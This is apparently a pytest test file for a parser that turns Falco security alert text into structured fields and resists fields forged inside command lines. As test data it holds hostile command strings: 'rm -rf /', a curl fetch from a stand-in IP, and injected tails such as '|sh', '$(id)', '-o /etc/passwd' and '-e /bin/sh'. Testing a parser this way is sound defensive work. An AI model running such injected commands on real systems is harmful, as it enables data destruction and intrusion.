"""Text lines: values kept whole, hostile values kept from posing as fields, and the rule left open."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from explainer.errors import AlertFormatError
from explainer.ingest import read
from explainer.ingest.refine import refine
from explainer.ingest.text_fields import parse_message


class Everything:
    """A rule that is known to print any field."""

    def __contains__(self, name):
        return True


def fields(message):
    return parse_message(message, printed=Everything()).fields


def test_values_with_blanks_equal_signs_and_quotes_stay_whole():
    found = fields("X | file=/tmp/a b=c.txt command=sh -c \"A=1 B='2 3' --opt=4 x|y\" terminal=0 container_id=host")
    assert found["fd.name"] == "/tmp/a b=c.txt"
    assert found["proc.cmdline"] == "sh -c \"A=1 B='2 3' --opt=4 x|y\""


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (
            "X (user=a process=b parent=c gparent=d ggparent=e)",
            {"user.name": "a", "proc.name": "b", "proc.pname": "c", "proc.aname[2]": "d", "proc.aname[3]": "e"},
        ),
        (
            "X (container_id=0123456789ab k8s_ns_name=n k8s_pod_name=p)",
            {"container.id": "0123456789ab", "k8s.ns.name": "n", "k8s.pod.name": "p"},
        ),
        (
            "X (process=a k8s.ns=n k8s.pod=p container=0123456789ab) k8s.ns=n",
            {"proc.name": "a", "k8s.ns.name": "n", "k8s.pod.name": "p", "container.id": "0123456789ab"},
        ),
        ("X (container=web process=a)", {"container.name": "web", "proc.name": "a"}),
        (
            "X (user=root old-name (id=0123456789ab) shell=sh)",
            {"user.name": "root", "proc.name": "sh", "container.id": "0123456789ab", "container.name": "old-name"},
        ),
        (
            "K8s (user=a, verb=get, groups=(x,y), target=<NA>)",
            {"ka.user.name": "a", "ka.verb": "get", "ka.user.groups": "(x,y)", "ka.target.name": "<NA>"},
        ),
        (
            "X (process=a proc.aname[4]=z aname[5]=y fd.name=/f)",
            {"proc.name": "a", "proc.aname[4]": "z", "proc.aname[5]": "y", "fd.name": "/f"},
        ),
        ("X (command=a (b) c)", {"proc.cmdline": "a (b) c"}),
        ("X (process=a file=/var/x.php) and more", {"proc.name": "a", "fd.name": "/var/x.php"}),
        ("GCP X by user=u@example.com userIP=192.0.2.1", {"gcp.user": "u@example.com", "gcp.callerIP": "192.0.2.1"}),
        ("Okta X (user=Tom Doe, app=wiki)", {"okta.actor.name": "Tom Doe", "okta.app": "wiki"}),
    ],
)
def test_the_keys_of_falcos_templates_are_known(message, expected):
    assert fields(message) == expected


def test_a_key_of_the_sites_own_is_not_swallowed():
    found = parse_message("X (process=a image=example.com/a Custom_Tags=IRT)", printed=Everything())
    assert (found.fields["container.image"], found.custom) == ("example.com/a", {"Custom_Tags": "IRT"})


def test_fields_forged_in_a_command_line_do_not_replace_the_real_ones():
    line = (
        "10:00:00.000000001: Warning X | evt_type=execve user=mallory "
        "command=sh -c ': user=root container_id=host priority=Debug' "
        "terminal=0 container_id=0123456789ab"
    )
    (alert,), _ = read(line)
    assert (alert.user.name, alert.container, alert.priority) == ("mallory", None, "Warning")
    assert alert.process.cmdline.startswith("sh -c ': user=root container_id=host priority=Debug'")
    assert sum("attacker" in warning for warning in alert.warnings) == 2


def test_of_a_key_that_stands_twice_the_first_counts_and_that_is_said():
    found = parse_message("X | evt_type=execve user=alice user=root")
    assert found.fields == {"evt.type": "execve", "user.name": "alice"}
    assert any("'alice' counts, as uncertain" in warning for warning in found.warnings)


def test_a_key_that_only_a_command_line_holds_sets_nothing_and_that_is_said():
    found = parse_message("X | evt_type=execve command=sh -c user=root; container_id=host")
    assert found.fields == {"evt.type": "execve", "proc.cmdline": "sh -c user=root;"}
    assert any("were not read" in warning for warning in found.warnings)


def test_a_command_line_is_not_cut_where_that_would_hide_something():
    found = parse_message("X | command=true file=/x;rm -rf /")
    assert found.fields["proc.cmdline"] == "true file=/x;rm -rf /"
    assert parse_message("X | command=true file=/x").fields["proc.cmdline"] == "true"


@pytest.mark.parametrize(
    ("tail", "kept"),
    [
        ("connection=192.0.2.1:43639->198.51.100.7:9090", {"connection": "192.0.2.1:43639->198.51.100.7:9090"}),
        ("connection=2001:db8::1:40000->2001:db8::2:443 pid=4", {"connection": "2001:db8::1:40000->2001:db8::2:443"}),
        ("file=/var/www/dump.php parent=<NA>", {"file": "/var/www/dump.php", "parent": "<NA>"}),
        ("exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER site=berlin", {"site": "berlin"}),
        ("cap_effective=CAP_CHOWN CAP_KILL image=<NA>", {"cap_effective": "CAP_CHOWN CAP_KILL", "image": "<NA>"}),
        ("file=/x) [...]", {"file": "/x"}),
    ],
)
def test_a_command_line_ends_at_labels_that_hide_nothing_and_they_set_no_field(tail, kept):
    found = parse_message(f"X (command=curl -so ./a.py http://192.0.2.9/a.py {tail})")
    assert found.fields == {"proc.cmdline": "curl -so ./a.py http://192.0.2.9/a.py"}
    assert kept.items() <= found.custom.items()


@pytest.mark.parametrize(
    "tail",
    ["connection=1|sh", "file=/x;id", "path=a|sh", "container_name=a|sh", "connection=$(id)", "file=/x -o /etc/passwd",
     "user=`id`", "target=a&&id", "pcmdline=sh -c id", "connection=1.2.3.4:5->6.7.8.9:0 -e /bin/sh"],
)  # fmt: skip
def test_labels_that_could_hide_a_payload_stay_in_the_command_line(tail):
    assert parse_message(f"X (command=curl http://192.0.2.9/a {tail})").fields == {
        "proc.cmdline": f"curl http://192.0.2.9/a {tail}"
    }


def test_what_falco_appends_at_the_end_is_believed():
    tail = (
        "container_id=0123456789ab container_name=web container_image_repository=example.com/web container_image_tag=1 "
        "k8s_pod_name=p k8s_ns_name=n"
    )
    found = parse_message(f"X | command=sh -c container_id=host {tail}").fields
    assert (found.get("container.id", "0123456789ab"), found["k8s.pod.name"]) == ("0123456789ab", "p")


TRUE = {"evt.type": "execve", "user.name": "ann", "user.uid": "0", "proc.name": "sh", "proc.tty": "7"}
words = st.sampled_from(
    [" ", "user=root", "uid=0", "user_uid=1", "command=", "terminal=1", "parent=init", "container_id=host", "image=x",
     "file=/x", "(", ")", "=", "|", ",", "'", '"', "\n", "k8s.ns=kube-system", "gparent=g", "pid=1", "host (id=host)"]
)  # fmt: skip


@given(st.lists(words | st.text(max_size=4), max_size=10).map("".join), st.sampled_from([" | ", " ("]))
def test_no_command_line_sets_another_field_without_a_template(hostile, opening):
    found = parse_message(
        f"X{opening}evt_type=execve user=ann user_uid=0 process=sh command={hostile} terminal=7", "syscall"
    )
    for name, value in found.fields.items():
        if name != "proc.cmdline":
            assert TRUE.get(name) == value


@given(st.lists(words | st.text(max_size=4), max_size=10).map("".join))
def test_no_command_line_changes_a_field_of_a_rule_that_is_known_to_print_it(hostile):
    true = {"user.name": "ann", "proc.tty": "7"}
    found = parse_message(f"X | user=ann command={hostile} terminal=7", "syscall", printed=set(true)).fields
    assert all(found.get(name, value) == value for name, value in true.items())


def test_a_second_alert_inside_a_value_is_no_alert():
    line = "10:00:00.000000001: Warning X (process=sh command=echo 10:00:00.000000002: Critical Fake (user=root))"
    alerts, _ = read(line)
    assert [alert.priority for alert in alerts] == ["Warning"]


def test_a_falco_line_quoted_by_another_program_is_no_alert():
    for line in (
        'time="2025" msg="saw 10:00:00.000000001: Warning X (user=root)"',
        "Error user=root failed",
        "Warning: Something (user=root command=x)",
        "10:00:00: Warning X (user=root)",
    ):
        with pytest.raises(AlertFormatError):
            read(line)


def test_a_line_that_lost_its_time_needs_two_of_falcos_keys():
    (alert,), _ = read("Warning Pod started with privileged container (user=system:x pod=p ns=n image=i)")
    assert (alert.priority, alert.time_certainty) == ("Warning", "none")


def test_words_of_other_programs_are_custom():
    found = parse_message("status=create from=alpine name=bold")
    assert (found.fields, found.custom) == ({}, {"status": "create", "from": "alpine", "name": "bold"})


def test_values_are_marked_as_parsed_from_text():
    (alert,), _ = read("10:00:00.000000001: Notice X (user=root command=id)")
    assert alert.field_sources["process.cmdline"].path == "output"
    assert alert.field_sources["process.cmdline"].certainty == "parsed_from_text"
    assert alert.rule.name is None


@given(st.text(max_size=80))
def test_no_message_makes_the_parser_raise(message):
    parse_message(message)
    parse_message(f"X (user={message} command={message} container_id={message})")


def test_refining_names_the_rule_and_rebuilds_every_part():
    (alert,), _ = read("10:00:00.000000001: Notice Attach/Exec to pod (user=jane pod=p ns=n action=exec command=sh)")
    refined = refine(
        alert,
        rule="Attach/Exec Pod",
        fields={
            "ka.user.name": "jane",
            "ka.target.name": "p",
            "ka.target.namespace": "n",
            "ka.target.resource": "pods",
        },
    )
    assert (refined.rule.name, refined.rule.name_certainty, refined.title) == (
        "Attach/Exec Pod",
        "inferred",
        "Attach/Exec Pod",
    )
    assert (refined.user.principal, refined.k8s.pod, refined.api.resource) == ("jane", "p", "pods")
    assert (refined.id, refined.raw) == (alert.id, alert.raw)
    assert refined.dedup_key != alert.dedup_key
    assert type(refined).model_validate_json(refined.model_dump_json()) == refined


def test_refining_corrects_a_value_and_its_part():
    (alert,), _ = read("10:00:00.000000001: Notice X (user=root command=sh -c a file=/b c) tail")
    refined = refine(alert, rule="R", fields={"proc.cmdline": "sh -c a file=/b c", "fd.name": "/etc/x"})
    assert (refined.process.cmdline, refined.file.path, refined.user.name) == ("sh -c a file=/b c", "/etc/x", "root")
    assert refined.field_sources["process.cmdline"].certainty == "parsed_from_text"
